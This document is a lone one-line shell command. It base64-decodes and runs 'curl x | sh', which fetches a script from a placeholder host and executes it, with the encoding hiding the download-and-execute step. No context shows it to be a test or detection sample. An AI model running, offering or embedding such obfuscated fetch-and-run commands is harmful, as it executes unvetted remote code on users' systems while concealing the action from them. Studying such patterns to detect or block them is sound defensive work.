bash -c "$(base64 -d <<< Y3VybCB4IHwgc2g=)"
